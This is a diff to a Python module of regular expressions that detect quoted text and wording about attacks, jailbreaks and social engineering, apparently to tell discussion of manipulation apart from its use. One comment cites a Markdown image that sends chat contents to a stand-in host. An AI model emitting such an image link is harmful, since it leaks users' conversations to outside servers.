@@ -21,7 +21,7 @@ import re
 
 QUOTE_RE = re.compile(
     r"\"([^\"\n]{3,300})\"|“([^”\n]{3,300})”|«([^»\n]{3,300})»|「([^」\n]{3,300})」"
-    r"|『([^』\n]{3,300})』|„([^“”\n]{3,300})[“”]|»([^«\n]{3,300})«|(?<!\w)'([^'\n]{3,300})'(?!\w)"
+    r"|『([^』\n]{3,300})』|„([^“”\"\n]{3,300})[“”\"]|»([^«\n]{3,300})«|(?<!\w)'([^'\n]{3,300})'(?!\w)"
     # a Markdown image shown as an exhibit ("why is ![x](https://a.example/?q={chat}) dangerous?")
     r"|(!\[[^\[\]\n]{0,100}\]\([^()\n]{3,300}\))"
 )
@@ -34,6 +34,10 @@ META_RE = re.compile(
             r"\b(?:mean(?:s|ing)?|explain\w*|is (?:this|it|that) (?:a|an)|signifi\w*|attack\w*"
             r"|jailbreak\w*|injection|known|classif\w*|moderat\w*|detect\w*|defend\w*|worry"
             r"|why does|viral)\b",
+            # the quote named as a manipulation technique ("may I call X social engineering?")
+            r"social engineering|ingénierie sociale|ingeniería social|ingegneria sociale"
+            r"|engenharia social|социальн\w* инженери|socjotechni|sosyal mühendislik"
+            r"|الهندسة الاجتماعية|사회공학|社会工程|ソーシャルエンジニアリング",
             r"veut dire|attaque|connue?|classer|modération|détecter|pourquoi|quiere decir|ataque"
             r"|conocid[oa]|clasificar|moderación|detectar|por qué",
             r"bedeute\w*|was hei\w*|angriff\w*|bekannt\w*|einstuf\w*|moderation\w*|erkenn\w*"
